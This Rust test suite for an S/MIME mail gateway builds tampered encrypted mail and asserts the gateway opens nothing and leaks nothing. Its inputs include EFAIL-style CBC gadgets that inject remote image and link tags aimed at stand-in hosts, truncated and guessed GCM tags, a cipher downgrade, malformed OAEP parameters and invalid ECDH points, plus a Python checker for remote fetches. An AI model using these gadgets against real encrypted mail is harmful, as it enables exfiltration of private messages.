//! Rows C1, C2, C3, C12, C13, C14, C21 and C22 of security.md over SMTP: encrypted mail that was tampered with, that stands where it
//! must not be opened, or that would tell too much. OpenSSL makes it, the test changes its octets.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use e2e::attack::{Attempt, cms_of, judge, pkcs7, scene};
use e2e::case::Mailbox;
use e2e::cast::{ALICE, CAROL, Cast, STRANGER};
use e2e::der::{Node, of, oid, plain, sequence, small};
use e2e::gateway::{Options, mailbox, program};
use e2e::keys::{self, KeyKind, shown, words};
use e2e::mime::{Form, entity, field, find, form, split};
use e2e::namespace::{Capture, inside};
use e2e::openssl::{self, Writing, crlf};
use e2e::program::{must_run, python};
use e2e::scene::{DELIVERY, Scene, correspondent, rule, send};
use e2e::sink::Received;

const RSA: KeyKind = KeyKind::Rsa(2048);
const BOB: &str = "bob@example.com";
const SECRET: &str = "forty-two amber windmills";

fn text() -> Vec<u8> {
    format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").into_bytes()
}

/// The CMS object of this entity encrypted to alice.
fn encrypted(entity: &[u8], kind: KeyKind, cipher: &str) -> Node {
    let to = [Cast::with(kind).alice.certificate.as_path()];
    cms_of(&openssl::encrypt(entity, &to, cipher, Writing::Der))
}

/// The same with further options.
fn encrypted_by(entity: &[u8], kind: KeyKind, options: &str) -> Node {
    let mut arguments = words("cms -encrypt -crlfeol -noindef -recip");
    arguments.push(shown(&Cast::with(kind).alice.certificate));
    arguments.extend(words(options));
    cms_of(&crlf(&must_run("openssl", &arguments, entity)))
}

/// Where what stands in an EnvelopedData: RecipientInfos, the content's algorithm with its parameters, the octets.
const RECIPIENTS: [usize; 3] = [1, 0, 1];
const PARAMETERS: [usize; 5] = [1, 0, 2, 1, 1];
const CIPHERTEXT: [usize; 4] = [1, 0, 2, 2];

fn start(name: &str, kind: KeyKind, more: &str) -> Option<Scene> {
    let rules = rule("optional", "neither");
    scene(name, kind, &[more, &rules].concat())
}

const DECRYPTED: &[&str] = &["decrypted"];
const AUTHENTICATED: &[&str] = &["decrypted-authenticated"];
/// What is said of mail that was not opened.
const CLOSED: &[&str] = &["failed", "refused", "no-key"];

/// What did not open arrives as it was handed in.
fn assert_closed(attempts: &[Attempt], mails: &[Received]) {
    for (attempt, mail) in attempts.iter().zip(mails) {
        if attempt.encryption == CLOSED {
            assert!(
                mail.content.ends_with(split(&attempt.message).1),
                "{}",
                attempt.name
            );
        }
    }
}

/// What a reader would fetch, as Python reads the mail and looks into its HTML: where it stands literally, and in the attributes
/// and style sheets that `html.parser` finds; a line each.
const REMOTE: &str = r#"
import email, email.policy, html.parser, re, sys
PLACES = 'src|srcset|href|background|poster|data|action'
def squeezed(text):
    return re.sub(r'[\x00-\x20]', '', text).lower()
def look(text):
    text = squeezed(text)
    for found in re.findall(r'(?:' + PLACES + r')=["\']?(?:https?:|ftp:|//)[^"\'>]*', text):
        print(found)
    for found in re.findall(r'(?:url\(|@import)["\']?(?:https?:|ftp:|//)[^"\')]*', text):
        print(found)
class Reader(html.parser.HTMLParser):
    style = False
    def handle_starttag(self, tag, attributes):
        self.style = tag == 'style'
        for name, value in attributes:
            look(name + '=' + (value or ''))
    def handle_endtag(self, tag):
        self.style = False
    def handle_data(self, data):
        if self.style:
            look(data)
message = email.message_from_bytes(sys.stdin.buffer.read(), policy=email.policy.default)
for part in message.walk():
    if part.get_content_type() == 'text/html':
        data = part.get_payload(decode=True)
        for text in (data.decode('utf-8', 'replace'), data.decode('latin-1')):
            look(text)
            reader = Reader()
            reader.feed(text)
            reader.close()
"#;

fn remote(mail: &[u8]) -> String {
    String::from_utf8(must_run(&python(), &["-c", REMOTE], mail)).unwrap()
}

/// Another text for a block that is known, by what stands before it.
fn exclusive_or(octets: &mut [u8], known: &[u8], wanted: &[u8]) {
    assert!(octets.len() == known.len() && known.len() == wanted.len());
    for (octet, (known, wanted)) in octets.iter_mut().zip(known.iter().zip(wanted)) {
        *octet ^= known ^ wanted;
    }
}

/// One HTML mail, changed by exclusive or in many ways.
fn malleable() -> Vec<Attempt> {
    let html = format!(
        "X-Pad: aaaaaaaa\nContent-Type: text/html; charset=utf-8\n\n<html><body><p>0123456789abcdef0123456789abcdef0123456789abcdef</p><p>{SECRET}</p></body></html>\n"
    )
    .replace('\n', "\r\n");
    let html = html.as_bytes();
    let whole = || encrypted(html, RSA, "aes-256-cbc");
    assert!(html.starts_with(b"X-Pad: aaaaaaaa\r"));
    let mut attempts =
        vec![Attempt::new("untouched", &pkcs7(&whole(), "enveloped-data")).encryption(DECRYPTED)];
    // The first block, by the IV.
    for (name, wanted) in [
        ("iv-field", b"X-Pad: http://b\r"),
        ("iv-blank", b"\r\n<img src=\"http"),
        ("iv-body", b"\r\n\r\n<img src=//>"),
    ] {
        let mut cms = whole();
        exclusive_or(cms.at(&PARAMETERS).octets(), &html[..16], wanted);
        attempts.push(
            Attempt::new(name, &pkcs7(&cms, "enveloped-data")).encryption(&["decrypted", "failed"]),
        );
    }
    // Behind a block of noise, as long as what is known lies in front: two blocks for each one that is wanted.
    let known = find(html, b"0123456789abcdef").unwrap().div_ceil(16);
    for number in 0..24 {
        let mut cms = whole();
        let text = cms.at(&CIPHERTEXT).octets();
        let (before, block) = (
            text[16 * (known - 1)..16 * known].to_vec(),
            text[16 * known..16 * (known + 1)].to_vec(),
        );
        let plain = &html[16 * known..16 * (known + 1)];
        let mut inserted = Vec::new();
        for wanted in [
            b"<img ignore=\"   ",
            b"\" src=\"http://x/",
            b"<a href=http://y",
        ] {
            let mut before = before.clone();
            exclusive_or(&mut before, plain, wanted);
            inserted.extend([before, block.clone()].concat());
        }
        let place = 16 * (known + 1 + number % 2);
        text.splice(place..place, inserted);
        let name = format!("gadget-{number}");
        attempts.push(
            Attempt::new(&name, &pkcs7(&cms, "enveloped-data"))
                .encryption(&["decrypted", "failed"]),
        );
    }
    attempts
}

#[test]
fn c1_malleable_ciphertext_over_smtp() {
    let Some(scene) = start("attack-c1", RSA, "") else {
        return;
    };
    let mut attempts = malleable();
    let with_remote = b"Content-Type: text/html\r\n\r\n<body background=\"http://x/\"><style>@import 'http://x/'; p { background: url(http://x/) }</style><img src=http://x/><a href=\"//x/\">x</a>\r\n";
    attempts.push(
        Attempt::new(
            "own",
            &pkcs7(
                &encrypted(with_remote, RSA, "aes-256-cbc"),
                "enveloped-data",
            ),
        )
        .encryption(DECRYPTED),
    );
    let attempts: Vec<_> = attempts
        .into_iter()
        .map(|one| one.signature(&["none"]))
        .collect();
    let mails = judge(&scene, &attempts);
    let mut opened = 0;
    for (attempt, mail) in attempts.iter().zip(&mails) {
        let told = field(&mail.content, "X-Sealgate-Result").unwrap();
        assert!(
            !told.contains("authenticated") && !told.contains("valid"),
            "{told}"
        );
        let results = field(&mail.content, "Authentication-Results").unwrap();
        assert!(!results.contains("pass"), "{results}");
        opened += usize::from(told.contains("encryption=decrypted"));
        let fetched = remote(&mail.content);
        assert_eq!(
            fetched,
            "",
            "{}:\n{}",
            attempt.name,
            String::from_utf8_lossy(&mail.content)
        );
    }
    assert!(opened >= 3, "only {opened} were opened");
    let own = field(&mails.last().unwrap().content, "X-Sealgate-Result").unwrap();
    assert!(own.contains("note=remote-content-removed"), "{own}");
    assert!(
        !remote(&[b"MIME-Version: 1.0\r\n".as_slice(), with_remote].concat()).is_empty(),
        "the judge is blind"
    );
}

/// Row C3: nothing of what C1's mails hold makes the gateway call anybody but the organisation's server, nor what the
/// certificates of a stranger's signature inside name. A mail of somebody trusted shows that the judge is not blind.
#[test]
fn c3_no_packet_leaves_over_smtp() {
    if program().is_none() || !inside("c3_no_packet_leaves_over_smtp") {
        return;
    }
    let options = Options {
        fetch_allow: Vec::new(),
        ..Options::default()
    };
    let cast = Cast::with(RSA);
    let scene = Scene::new("attack-c3", &options, cast, &rule("optional", "neither")).unwrap();
    let directory = scene.gateway.directory().path();
    let places = "crlDistributionPoints = URI:http://9.9.9.9/list.crl, URI:http://127.0.0.1:79/list.crl\n\
        authorityInfoAccess = OCSP;URI:http://9.9.9.9/ocsp, OCSP;URI:http://127.0.0.1:79/, caIssuers;URI:http://9.9.9.9/ca.crt\n\
        basicConstraints = critical, CA:false\nkeyUsage = critical, digitalSignature\n\
        extendedKeyUsage = emailProtection\nsubjectAltName = email:carol@partner.example\n";
    let made = |issuer, name: &str| keys::with_extensions(directory, issuer, name, places);
    let stranger = made(&cast.own_authority, "stranger");
    let trusted = made(&cast.partner_authority, "trusted");
    let pages: String = ["http://9.9.9.9/", "http://127.0.0.1:79/", "//198.18.0.9/", "http://[::1]:79/"]
        .map(|url| format!(
            "<link rel=stylesheet href=\"{url}\"><style>@import '{url}'; p {{ background: url({url}) }}</style><img src=\"{url}\">\
             <object data=\"{url}\"></object><iframe src=\"{url}\"></iframe><a href=\"{url}\" ping=\"{url}\">x</a>\r\n"
        ))
        .concat();
    let page = format!("Content-Type: text/html\r\n\r\n<html><body>{pages}</body></html>\r\n");
    let signed = |by| {
        entity(&openssl::sign(
            page.as_bytes(),
            by,
            None,
            false,
            Writing::Der,
        ))
    };
    let sealed = |inside: &[u8]| pkcs7(&encrypted(inside, RSA, "aes-256-cbc"), "enveloped-data");
    let mut attempts = malleable();
    attempts.extend([
        Attempt::new("page", &sealed(page.as_bytes())).encryption(DECRYPTED),
        Attempt::new("page-stranger", &sealed(&signed(&stranger))).signature(&["untrusted"]),
        Attempt::new("page-in-clear", page.as_bytes()),
        Attempt::new("stranger-in-clear", &signed(&stranger)).signature(&["untrusted"]),
    ]);
    let known = [
        scene.gateway.inbound.port(),
        scene.gateway.outbound.port(),
        scene.office.address.port(),
    ];
    let capture = Capture::start();
    judge(&scene, &attempts);
    scene.gateway.drained();
    let seen = capture.seen(&known);
    assert!(seen.is_empty(), "{seen:#?}");
    assert_eq!(scene.internet.connections(), 0);
    let capture = Capture::start();
    let good = Attempt::new("trusted", &signed(&trusted)).signature(&["revocation-unknown"]);
    judge(&scene, &[good]);
    let seen = capture.seen(&known);
    assert!(seen.contains("out 6 9.9.9.9 80"), "{seen:#?}");
    assert!(
        seen.iter().all(|line| line == "out 6 9.9.9.9 80"),
        "{seen:#?}"
    );
}

#[test]
fn c2_an_encrypted_part_stays_closed_over_smtp() {
    let Some(scene) = start("attack-c2", RSA, "") else {
        return;
    };
    let closed = pkcs7(&encrypted(&text(), RSA, "aes-256-cbc"), "enveloped-data");
    let closed = String::from_utf8(closed).unwrap();
    let html = |inner: &str| format!("--w\r\nContent-Type: text/html\r\n\r\n{inner}\r\n");
    let tree = |kind: &str, parts: &str| {
        format!("Content-Type: multipart/{kind}; boundary=w\r\n\r\n{parts}--w--\r\n").into_bytes()
    };
    let part = format!("--w\r\n{closed}\r\n");
    let around = [html("<img src=\"http://x/"), part.clone(), html("\">")].concat();
    let attached = format!(
        "--w\r\nContent-Type: message/rfc822\r\n\r\nFrom: {CAROL}\r\nMIME-Version: 1.0\r\n{closed}\r\n"
    );
    let attempts = [
        Attempt::new("mixed", &tree("mixed", &around)),
        Attempt::new("related", &tree("related", &around)),
        Attempt::new("alternative", &tree("alternative", &around)),
        Attempt::new("alone", &tree("mixed", &part)),
        Attempt::new("attached", &tree("mixed", &attached)),
        Attempt::new("digest", &tree("digest", &attached)),
        Attempt::new("twice", &tree("mixed", &[part.clone(), part].concat())),
    ]
    .map(|one| one.encryption(&["none"]));
    let mails = judge(&scene, &attempts);
    for (attempt, mail) in attempts.iter().zip(&mails) {
        // Byte for byte, with all fields it had.
        assert!(mail.content.ends_with(&attempt.message), "{}", attempt.name);
    }
}

#[test]
fn c12_tags_nonces_and_ciphers_over_smtp() {
    let Some(scene) = start("attack-c12", RSA, "") else {
        return;
    };
    let whole = encrypted(&text(), RSA, "aes-256-gcm");
    let entity_of = |cms: &Node| pkcs7(cms, "authEnveloped-data");
    let mut attempts = vec![Attempt::new("control", &entity_of(&whole)).encryption(AUTHENTICATED)];
    let tag_place = whole.clone().at(&[1, 0]).parts().len() - 1;
    let mut closed = |name: String, cms: &Node| {
        attempts.push(Attempt::new(&name, &entity_of(cms)).encryption(CLOSED));
    };
    let parameters = |nonce: &[u8], length: Option<u8>| {
        let mut parts = vec![plain(4, nonce)];
        parts.extend(length.map(small));
        sequence(parts)
    };
    let nonce = whole.clone().at(&[1, 0, 2, 1, 1, 0]).octets().clone();
    for length in [0_u8, 1, 4, 8, 11] {
        for announced in [Some(length), None, Some(16)] {
            let mut cms = whole.clone();
            cms.at(&[1, 0, tag_place]).octets().truncate(length.into());
            *cms.at(&PARAMETERS) = parameters(&nonce, announced);
            closed(format!("tag-{length}-{announced:?}"), &cms);
        }
    }
    // A tag of one octet would fit one of these.
    for guess in 0..=255_u8 {
        let mut cms = whole.clone();
        cms.at(&CIPHERTEXT).octets()[30] ^= 1;
        *cms.at(&[1, 0, tag_place]).octets() = vec![guess];
        *cms.at(&PARAMETERS) = parameters(&nonce, Some(1));
        closed(format!("guess-{guess}"), &cms);
    }
    for length in [0, 13, 16, 64, 1024, 60_000] {
        let mut cms = whole.clone();
        *cms.at(&PARAMETERS) = parameters(&vec![7; length], Some(16));
        closed(format!("nonce-{length}"), &cms);
    }
    let mut flipped = whole.clone();
    flipped.at(&CIPHERTEXT).octets()[30] ^= 1;
    closed("flipped".to_owned(), &flipped);
    let mut other = whole.clone();
    *other.at(&[1, 0, 2, 1]) = sequence(vec![oid("2.16.840.1.101.3.4.1.42"), plain(4, &[0; 16])]);
    closed("cbc".to_owned(), &other);
    // EFAIL again: what GCM encrypted, called CBC in an EnvelopedData.
    let mut downgraded = whole.clone();
    *downgraded.at(&[0]) = oid("1.2.840.113549.1.7.3");
    downgraded.at(&[1, 0]).parts().truncate(3);
    *downgraded.at(&[1, 0, 2, 1]) =
        sequence(vec![oid("2.16.840.1.101.3.4.1.42"), plain(4, &[0; 16])]);
    attempts
        .push(Attempt::new("downgraded", &pkcs7(&downgraded, "enveloped-data")).encryption(CLOSED));
    let mails = judge(&scene, &attempts);
    assert_closed(&attempts, &mails);
}

#[test]
fn c13_oaep_parameters_over_smtp() {
    let Some(scene) = start("attack-c13", RSA, "") else {
        return;
    };
    const OAEP: &str = "1.2.840.113549.1.1.7";
    let good = encrypted_by(&text(), RSA, "-aes-256-cbc -keyopt rsa_padding_mode:oaep");
    let older = encrypted(&text(), RSA, "aes-256-cbc");
    let algorithm = [&RECIPIENTS[..], &[0, 2]].concat();
    let mut attempts = vec![
        Attempt::new("control", &pkcs7(&good, "enveloped-data")).encryption(DECRYPTED),
        Attempt::new("older", &pkcs7(&older, "enveloped-data")).encryption(DECRYPTED),
    ];
    let null = || plain(5, b"");
    let hash = |name: &str| sequence(vec![oid(name), null()]);
    let mask = |parts: Vec<Node>| of(0xa1, vec![sequence(parts)]);
    let malformed: [(&str, Vec<Node>); 9] = [
        ("absent", vec![]),
        ("null", vec![null()]),
        ("integer", vec![small(1)]),
        (
            "hash-md5",
            vec![sequence(vec![of(0xa0, vec![hash("1.2.840.113549.2.5")])])],
        ),
        (
            "hash-unknown",
            vec![sequence(vec![of(0xa0, vec![hash("1.2.3.4")])])],
        ),
        (
            "mask-without-hash",
            vec![sequence(vec![mask(vec![oid("1.2.840.113549.1.1.8")])])],
        ),
        (
            "mask-unknown",
            vec![sequence(vec![mask(vec![
                oid("1.2.3.4"),
                hash("2.16.840.1.101.3.4.2.1"),
            ])])],
        ),
        (
            "unknown-field",
            vec![sequence(vec![of(0xa3, vec![small(1)])])],
        ),
        ("two", vec![sequence(vec![]), sequence(vec![])]),
    ];
    for (name, parameters) in &malformed {
        // What is wrapped by OAEP and what is wrapped the older way: neither may be tried.
        for (kind, whole) in [("oaep", &good), ("older", &older)] {
            let mut cms = whole.clone();
            let parts = [vec![oid(OAEP)], parameters.clone()].concat();
            *cms.at(&algorithm) = sequence(parts);
            let name = format!("{kind}-{name}");
            attempts.push(Attempt::new(&name, &pkcs7(&cms, "enveloped-data")).encryption(CLOSED));
        }
    }
    let mut cms = older.clone();
    *cms.at(&algorithm) = sequence(vec![oid(OAEP), sequence(vec![])]);
    attempts
        .push(Attempt::new("older-called-oaep", &pkcs7(&cms, "enveloped-data")).encryption(CLOSED));
    let mut cms = good.clone();
    *cms.at(&algorithm) = sequence(vec![oid("1.2.840.113549.1.1.1"), null()]);
    attempts
        .push(Attempt::new("oaep-called-older", &pkcs7(&cms, "enveloped-data")).encryption(CLOSED));
    let mails = judge(&scene, &attempts);
    assert_closed(&attempts, &mails);
}

#[test]
fn c14_key_agreement_over_smtp() {
    let kind = KeyKind::P256;
    let Some(scene) = start("attack-c14", kind, "") else {
        return;
    };
    let whole = encrypted(&text(), kind, "aes-256-cbc");
    // KeyAgreeRecipientInfo: version, originator, (ukm), algorithm, recipient's encrypted keys.
    let info = [&RECIPIENTS[..], &[0]].concat();
    let under = |path: &[usize]| [&info[..], path].concat();
    let count = whole.clone().at(&info).parts().len();
    let (algorithm, keys) = (count - 2, count - 1);
    let point = under(&[1, 0, 1]);
    let wrapped = under(&[keys, 0, 1]);
    let mut attempts =
        vec![Attempt::new("control", &pkcs7(&whole, "enveloped-data")).encryption(DECRYPTED)];
    let mut changed = |name: &str, change: &dyn Fn(&mut Node)| {
        let mut cms = whole.clone();
        change(&mut cms);
        attempts.push(Attempt::new(name, &pkcs7(&cms, "enveloped-data")).encryption(CLOSED));
    };
    changed("off-the-curve", &|cms| {
        *cms.at(&point).octets().last_mut().unwrap() ^= 1
    });
    changed("point-of-zeros", &|cms| {
        let own = cms.at(&point).octets();
        own[2..].fill(0);
    });
    changed("at-infinity", &|cms| *cms.at(&point).octets() = vec![0, 0]);
    changed("no-point", &|cms| *cms.at(&point).octets() = vec![0]);
    changed("short-point", &|cms| cms.at(&point).octets().truncate(40));
    changed("long-point", &|cms| cms.at(&point).octets().extend([0; 64]));
    changed("x25519-of-zeros", &|cms| {
        *cms.at(&under(&[1, 0, 0])) = sequence(vec![oid("1.3.101.110")]);
        *cms.at(&point).octets() = vec![0; 33];
    });
    for length in [0, 1, 7, 8, 16, 24, 32, 41, 48, 256, 4096] {
        let name = format!("wrapped-{length}");
        changed(&name, &|cms| cms.at(&wrapped).octets().resize(length, 0x5a));
    }
    changed("wrapped-flipped", &|cms| cms.at(&wrapped).octets()[3] ^= 1);
    // CVE-2026-28389: no parameters where the key wrap must stand.
    changed("no-parameters", &|cms| {
        cms.at(&under(&[algorithm])).parts().truncate(1)
    });
    changed("null-parameters", &|cms| {
        *cms.at(&under(&[algorithm, 1])) = plain(5, b"")
    });
    changed("empty-parameters", &|cms| {
        *cms.at(&under(&[algorithm, 1])) = sequence(vec![])
    });
    changed("unknown-wrap", &|cms| {
        *cms.at(&under(&[algorithm, 1, 0])) = oid("1.2.3.4")
    });
    changed("unknown-agreement", &|cms| {
        *cms.at(&under(&[algorithm, 0])) = oid("1.2.3.4")
    });
    let mails = judge(&scene, &attempts);
    assert_closed(&attempts, &mails);
}

/// Only who is written to opens a mail, and nothing is opened on the way out.
#[test]
fn c21_no_oracle_for_others_over_smtp() {
    let cast = Cast::with(RSA);
    let bob = mailbox(BOB, Mailbox::Inactive, cast);
    let Some(scene) = start("attack-c21", RSA, &bob) else {
        return;
    };
    let closed = pkcs7(&encrypted(&text(), RSA, "aes-256-cbc"), "enveloped-data");
    let mail = |from: &str, to: &str, entity: &[u8]| {
        let head = format!("From: {from}\r\nTo: {to}\r\nSubject: s\r\nMIME-Version: 1.0\r\n");
        [head.as_bytes(), entity].concat()
    };
    // Encrypted to alice, sent to bob; even where alice stands in To.
    for (count, to) in [BOB, ALICE, "alice@example.com, bob@example.com"]
        .iter()
        .enumerate()
    {
        let message = mail(CAROL, to, &closed);
        let reply = send(scene.gateway.inbound, CAROL, &[BOB], &message);
        assert_eq!(reply.code, 250, "{reply:?}");
        let arrived = scene.office.wait_for(count + 1, DELIVERY);
        let last = &arrived[count].content;
        assert!(last.ends_with(split(&message).1));
        let told = field(last, "X-Sealgate-Result").unwrap_or_default();
        assert!(!told.contains("encryption=decrypted"), "{told}");
    }
    // To both: bob's copy stays closed.
    let message = mail(CAROL, ALICE, &closed);
    assert_eq!(
        send(scene.gateway.inbound, CAROL, &[ALICE, BOB], &message).code,
        250
    );
    let arrived = scene.office.wait_for(5, DELIVERY);
    let of = |address: &str| {
        let mut mails = arrived[3..]
            .iter()
            .filter(|mail| mail.addresses() == [address]);
        mails.next().unwrap().content.clone()
    };
    assert!(find(&of(ALICE), SECRET.as_bytes()).is_some());
    assert!(of(BOB).ends_with(split(&message).1));
    // On the way out, as the whole mail, as a part of an answer, and by alice herself.
    let quoted = [
        b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n\r\nyou wrote:\r\n--w\r\n"
            .as_slice(),
        &closed,
        b"\r\n--w--\r\n",
    ]
    .concat();
    let mut count = 0;
    for from in [BOB, ALICE] {
        for content in [&closed, &quoted] {
            count += 1;
            let message = mail(from, CAROL, content);
            assert_eq!(
                send(scene.gateway.outbound, from, &[CAROL], &message).code,
                250
            );
            let sent = scene.internet.wait_for(count, DELIVERY);
            assert!(
                sent[count - 1].content.ends_with(split(&message).1),
                "{from}"
            );
        }
    }
    // Nobody outside has anything signed or sent.
    let refused = send(
        scene.gateway.inbound,
        ALICE,
        &[CAROL],
        &mail(ALICE, CAROL, &closed),
    );
    assert!(refused.code >= 500, "{refused:?}");
}

/// To a, Cc b, Bcc c: nobody sees c, and c sees nobody.
#[test]
fn c22_blind_recipients_over_smtp() {
    let cast = Cast::with(RSA);
    let directory = e2e::place::Directory::new("c22");
    let dora = "dora@third.example";
    let third = e2e::keys::mailbox(directory.path(), &cast.partner_authority, dora, RSA);
    let more = [
        correspondent(cast, CAROL),
        correspondent(cast, STRANGER),
        format!(
            "[[correspondents]]\ncertificate = {:?}\n",
            shown(&third.certificate)
        ),
        rule("optional", "enforce"),
    ];
    let Some(scene) = scene("attack-c22", RSA, &more.concat()) else {
        return;
    };
    let message = format!(
        "From: {ALICE}\r\nTo: {CAROL}\r\nCc: {dora}\r\nBcc: {STRANGER}\r\nMessage-ID: <c22@example.com>\r\nSubject: s\r\n\r\n{SECRET}\r\n"
    );
    let to = [CAROL, dora, STRANGER];
    let reply = send(scene.gateway.outbound, ALICE, &to, message.as_bytes());
    assert_eq!(reply.code, 250, "{reply:?}");
    scene.gateway.drained();
    let copies = scene.internet.received();
    let mut served: Vec<&str> = copies.iter().flat_map(Received::addresses).collect();
    served.sort_unstable();
    assert_eq!(served, [CAROL, dora, STRANGER]);
    let keys = [
        (CAROL, &cast.carol),
        (dora, &third),
        (STRANGER, &cast.stranger),
    ];
    for copy in &copies {
        assert_eq!(form(&copy.content), Form::Encrypted);
        assert_eq!(field(&copy.content, "Bcc"), None);
        let inside = entity(&copy.content);
        let blind = copy.addresses() == [STRANGER];
        assert!(
            blind || !copy.addresses().contains(&STRANGER),
            "{:?}",
            copy.addresses()
        );
        for (address, key) in keys {
            let named = if blind {
                address == STRANGER
            } else {
                address != STRANGER
            };
            let opened = openssl::decrypt(&inside, key)
                .is_ok_and(|text| find(&text, SECRET.as_bytes()).is_some());
            assert_eq!(
                opened,
                named,
                "{address} in the copy for {:?}",
                copy.addresses()
            );
        }
        openssl::decrypt(&inside, &cast.alice).unwrap();
        let infos = cms_of(&inside).at(&RECIPIENTS).parts().len();
        assert_eq!(infos, if blind { 2 } else { 3 });
    }
}
